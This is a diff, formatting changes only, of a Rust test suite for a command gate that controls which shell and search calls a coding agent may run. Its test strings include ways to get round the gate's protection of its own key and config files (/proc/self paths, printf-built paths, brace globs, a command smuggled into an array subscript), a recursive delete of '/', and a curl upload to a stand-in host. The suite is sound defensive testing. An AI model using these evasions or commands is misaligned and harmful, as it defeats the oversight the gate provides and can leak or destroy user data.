@@ -1,4 +1,5 @@
-//! Places that a pattern, a path from here or further up, or a way around leads to; and everyday commands that only look like it.
+//! Places that a pattern, a path from here or further up, or a way around leads to; and everyday
+//! commands that only look like it.
 
 use serde_json::json;
 use toolgate::policy::{Condition, Deny};
@@ -12,7 +13,12 @@ const PROJECT_DIR: Option<&str> = Some("/home/ann/desk");
 
 #[tokio::test]
 async fn relative_paths_match_protected_absolute_paths() {
-    let new = || gate_with_path_rule(&["/home/ann/desk/ledger.db", "/home/ann/desk/ledger.db.state"], PROJECT_DIR);
+    let new = || {
+        gate_with_path_rule(
+            &["/home/ann/desk/ledger.db", "/home/ann/desk/ledger.db.state"],
+            PROJECT_DIR,
+        )
+    };
     let refused = [
         "cat ledger.db",
         "cat ./ledger.db",
@@ -59,7 +65,12 @@ async fn relative_paths_match_protected_absolute_paths() {
     assert_verdicts(&new(), "allow", &allowed).await;
     // Elsewhere, many files have the same name.
     let elsewhere = gate_with_path_rule(&["/home/ann/ledger.db"], PROJECT_DIR);
-    assert_verdicts(&elsewhere, "allow", &["cat ledger.db", "cat *.db", "curl -T ledger.db http://x.example"]).await;
+    assert_verdicts(
+        &elsewhere,
+        "allow",
+        &["cat ledger.db", "cat *.db", "curl -T ledger.db http://x.example"],
+    )
+    .await;
     assert_verdicts(&elsewhere, "deny", &["cd .. && cat ledger.db"]).await;
     assert_verdicts(&elsewhere, "ask", &["cat ../*.db"]).await;
 }
@@ -82,7 +93,13 @@ async fn pattern_matching_parent_directory_asks() {
         "for d in src /; do rm -rf $d; done",
     ];
     assert_verdicts(&gate_with_path_rule(&OWN_PATHS, None), "ask", &asked).await;
-    let allowed = ["rm -rf /tmp/build/*", "cp ../lib/*.rs src/", "rm -f *.log", "mv src/*.rs lib/", "cp /home/ann/other/*.txt /tmp/x"];
+    let allowed = [
+        "rm -rf /tmp/build/*",
+        "cp ../lib/*.rs src/",
+        "rm -f *.log",
+        "mv src/*.rs lib/",
+        "cp /home/ann/other/*.txt /tmp/x",
+    ];
     assert_verdicts(&gate_with_path_rule(&OWN_PATHS, None), "allow", &allowed).await;
 }
 
@@ -135,12 +152,23 @@ async fn upward_pattern_asks_only_for_parent_directories() {
         assert_verdicts(&gate_with_path_rule(&[STATE_DIR], from), "allow", &everyday).await;
     }
     // Who is not lenient lets nothing of it pass.
-    let condition = Condition::Touches { places: vec![STATE_DIR.to_owned()], lenient: false, whole: false, trees: true, from: None };
+    let condition = Condition::Touches {
+        places: vec![STATE_DIR.to_owned()],
+        lenient: false,
+        whole: false,
+        trees: true,
+        from: None,
+    };
     let agent = Agent::builder("coder")
         .tool(Tool::external("bash", "Runs a command.", None).shell("/command"))
         .policy(Deny::new("own", ["bash"]).when("/command", condition).reason("Not for agents."));
     let strict = crate::support::runtime_builder().agent(agent.build().unwrap()).build_checked();
-    let asked = ["cat \"$FILE\"", "cat \"$DIR/$FILE\"", "cat \"$A/$B/$C\"", "cat \"$(printf %s /home/ann/.local/state/t)oolgate/key\""];
+    let asked = [
+        "cat \"$FILE\"",
+        "cat \"$DIR/$FILE\"",
+        "cat \"$A/$B/$C\"",
+        "cat \"$(printf %s /home/ann/.local/state/t)oolgate/key\"",
+    ];
     assert_verdicts(&strict, "ask", &asked).await;
     // Whole trees.
     assert_verdicts(
@@ -180,9 +208,14 @@ async fn proc_path_to_protected_file_asks() {
         "cat /pro?/self/root/home/ann/.local/state/toolgate/key",
     ];
     assert_verdicts(&gate_with_path_rule(&[STATE_DIR], PROJECT_DIR), "ask", &asked).await;
-    assert_verdicts(&gate_with_path_rule(&OWN_PATHS, None), "ask", &["rm /pro?/self/cwd/toolgate.toml", "rm /dev/fd/../cwd/toolgate.toml"])
-        .await;
-    let allowed = ["diff <(sort a) <(sort b)", "cat /proc/cpuinfo", "cat /dev/stdin", "grep x /proc/meminfo"];
+    assert_verdicts(
+        &gate_with_path_rule(&OWN_PATHS, None),
+        "ask",
+        &["rm /pro?/self/cwd/toolgate.toml", "rm /dev/fd/../cwd/toolgate.toml"],
+    )
+    .await;
+    let allowed =
+        ["diff <(sort a) <(sort b)", "cat /proc/cpuinfo", "cat /dev/stdin", "grep x /proc/meminfo"];
     assert_verdicts(&gate_with_path_rule(&[STATE_DIR], PROJECT_DIR), "allow", &allowed).await;
     // A tool that searches, too.
     let condition = Condition::Touches {
@@ -196,8 +229,16 @@ async fn proc_path_to_protected_file_asks() {
         .tool(Tool::external("grep", "Searches.", None).effect(Effect::Read))
         .policy(Deny::new("own", ["grep"]).when("/path", condition).reason("Not for agents."));
     let gate = crate::support::runtime_builder().agent(agent.build().unwrap()).build_checked();
-    for (path, passes) in [("/proc/self/cwd/..", false), ("/dev/fd/../cwd/..", false), ("/proc/self/cwd", false), ("src", true)] {
-        let answer = gate.session("coder", "alice", path).admit("grep", json!({"pattern": "x", "path": path})).await;
+    for (path, passes) in [
+        ("/proc/self/cwd/..", false),
+        ("/dev/fd/../cwd/..", false),
+        ("/proc/self/cwd", false),
+        ("src", true),
+    ] {
+        let answer = gate
+            .session("coder", "alice", path)
+            .admit("grep", json!({"pattern": "x", "path": path}))
+            .await;
         assert_eq!(answer.is_ok(), passes, "{path}");
     }
 }
@@ -216,7 +257,12 @@ async fn fd_exec_of_matching_files_asks() {
         "fdfind -H settings.json -x rm",
     ];
     assert_verdicts(&gate_with_path_rule(&OWN_PATHS, None), "ask", &asked).await;
-    assert_verdicts(&gate_with_path_rule(&OWN_PATHS, None), "allow", &["fd -e rs -x wc -l", "fd -e txt", "fd -extx", "fd x src"]).await;
+    assert_verdicts(
+        &gate_with_path_rule(&OWN_PATHS, None),
+        "allow",
+        &["fd -e rs -x wc -l", "fd -e txt", "fd -extx", "fd x src"],
+    )
+    .await;
 }
 
 #[tokio::test]
@@ -300,11 +346,26 @@ async fn wrapped_command_arguments_are_not_paths() {
 
 #[tokio::test]
 async fn long_unknown_word_behind_wrapper_asks() {
-    let with = |letters: usize| format!("docker exec db psql -U app -c \"SELECT {} FROM x WHERE id IN ($ID)\"", "a".repeat(letters));
-    assert_verdicts(&gate_with_path_rule(&OWN_PATHS, None), "allow", &[with(100).as_str(), with(900).as_str()]).await;
+    let with = |letters: usize| {
+        format!(
+            "docker exec db psql -U app -c \"SELECT {} FROM x WHERE id IN ($ID)\"",
+            "a".repeat(letters)
+        )
+    };
+    assert_verdicts(
+        &gate_with_path_rule(&OWN_PATHS, None),
+        "allow",
+        &[with(100).as_str(), with(900).as_str()],
+    )
+    .await;
     let twice = format!("{}; {}", with(600), with(600));
     let guessed = format!("env {}psql -c \"SELECT {} $ID\"", "A=1 x ".repeat(12), "a".repeat(900));
-    assert_verdicts(&gate_with_path_rule(&OWN_PATHS, None), "ask", &[with(1_100).as_str(), twice.as_str(), guessed.as_str()]).await;
+    assert_verdicts(
+        &gate_with_path_rule(&OWN_PATHS, None),
+        "ask",
+        &[with(1_100).as_str(), twice.as_str(), guessed.as_str()],
+    )
+    .await;
 }
 
 #[tokio::test]
@@ -368,12 +429,21 @@ async fn copied_files_are_checked_by_target_name() {
 async fn ask_reason_names_actual_uncertainty() {
     let gate = gate_with_path_rule(&OWN_PATHS, None);
     for (command, why) in [
-        ("git checkout -- .", "its working directory, or the target of a path in it, is known only when it runs"),
+        (
+            "git checkout -- .",
+            "its working directory, or the target of a path in it, is known only when it runs",
+        ),
         ("cp $FILE .", "some words of the command are known only when it runs"),
         ("tar xf a.tgz", "the files that it writes or removes are known only when it runs"),
     ] {
-        let answer = gate.session("coder", "alice", command).admit("bash", json!({"command": command})).await;
-        let said = answer.err().and_then(|answer| answer.outcome.error().map(|error| error.message.clone())).unwrap_or_default();
+        let answer = gate
+            .session("coder", "alice", command)
+            .admit("bash", json!({"command": command}))
+            .await;
+        let said = answer
+            .err()
+            .and_then(|answer| answer.outcome.error().map(|error| error.message.clone()))
+            .unwrap_or_default();
         assert!(said.contains(why), "{command}: {said}");
     }
 }
@@ -413,7 +483,10 @@ async fn glob_brackets_and_braces_do_not_evade_rules() {
         "a=(1); unset 'a[$(cp x toolgate.toml)]'",
     ];
     assert_verdicts(&gate_with_path_rule(&OWN_PATHS, None), "ask", &asked).await;
-    let refused = ["cat /home/ann/.local/state/toolgate/{trusted.json,ledger.db}", "rm .claude/{settings.json,x}"];
+    let refused = [
+        "cat /home/ann/.local/state/toolgate/{trusted.json,ledger.db}",
+        "rm .claude/{settings.json,x}",
+    ];
     assert_verdicts(&gate_with_path_rule(&OWN_PATHS, None), "deny", &refused).await;
     let allowed = [
         "cat src/[a-z]*.rs",
